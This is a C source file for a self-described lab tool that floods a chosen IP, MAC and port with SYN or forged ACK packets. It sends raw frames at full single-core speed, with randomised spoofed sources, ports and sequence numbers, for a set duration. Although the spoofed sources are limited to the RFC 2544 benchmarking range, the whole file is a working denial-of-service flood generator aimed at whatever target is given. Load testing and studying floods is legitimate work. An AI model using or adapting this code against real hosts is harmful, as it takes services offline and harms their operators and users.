/* A flood of SYN, or of forged ACK, for the lab: as many as one core can send, from random sources. usage: flood INTERFACE TO_MAC TO_IP PORT SECONDS [ack] */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64

struct frame {
  struct ether_header ethernet;
  struct iphdr ip;
  struct tcphdr tcp;
} __attribute__((packed));

static uint16_t sum(const void *bytes, size_t length, uint32_t start) {
  const uint8_t *at = bytes;
  for (size_t i = 0; i + 1 < length; i += 2) start += (uint32_t)(at[i] << 8 | at[i + 1]);
  while (start >> 16) start = (start & 0xffff) + (start >> 16);
  return htons((uint16_t)~start);
}

static uint32_t half_sum(uint32_t address) { return (ntohl(address) >> 16) + (ntohl(address) & 0xffff); }

/* Sources of 198.18.0.0/15, which are for tests of this kind (RFC 2544). */
static void shuffle(struct frame *frame) {
  frame->ip.saddr = htonl(0xc6120000u | ((uint32_t)random() & 0x1ffffu));
  frame->tcp.source = htons((uint16_t)(1024 + random() % 60000));
  frame->tcp.seq = (uint32_t)random();
  if (frame->tcp.ack) frame->tcp.ack_seq = (uint32_t)random();
  frame->ip.check = 0;
  frame->ip.check = sum(&frame->ip, sizeof frame->ip, 0);
  frame->tcp.check = 0;
  frame->tcp.check = sum(&frame->tcp, sizeof frame->tcp,
                         half_sum(frame->ip.saddr) + half_sum(frame->ip.daddr) + IPPROTO_TCP + sizeof frame->tcp);
}

int main(int count, char **words) {
  if (count < 6) return 2;
  struct frame frame = {.ethernet.ether_type = htons(ETHERTYPE_IP)};
  unsigned mac[6];
  if (sscanf(words[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3, mac + 4, mac + 5) != 6) return 2;
  for (int i = 0; i < 6; i++) frame.ethernet.ether_dhost[i] = (uint8_t)mac[i];
  frame.ethernet.ether_shost[0] = 2;
  frame.ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .tot_len = htons(40)};
  frame.ip.daddr = inet_addr(words[3]);
  frame.tcp.dest = htons((uint16_t)atoi(words[4]));
  frame.tcp.doff = 5;
  frame.tcp.ack = count > 6;
  frame.tcp.syn = !frame.tcp.ack;
  frame.tcp.window = htons(1024);

  srandom((unsigned)time(NULL) ^ (unsigned)getpid()); /* two floods are not the same one twice */
  int sock = socket(AF_PACKET, SOCK_RAW, 0);
  struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(words[1]), .sll_halen = 6};
  struct frame frames[BATCH];
  struct iovec pieces[BATCH];
  struct mmsghdr messages[BATCH];
  for (int i = 0; i < BATCH; i++) {
    frames[i] = frame;
    pieces[i] = (struct iovec){&frames[i], sizeof frame};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &pieces[i], .msg_iovlen = 1};
  }
  long sent = 0;
  for (time_t end = time(NULL) + atoi(words[5]); time(NULL) < end;) {
    for (int i = 0; i < BATCH; i++) shuffle(&frames[i]);
    int done = sendmmsg(sock, messages, BATCH, 0);
    if (done > 0) sent += done;
  }
  printf("%ld\n", sent);
  return 0;
}
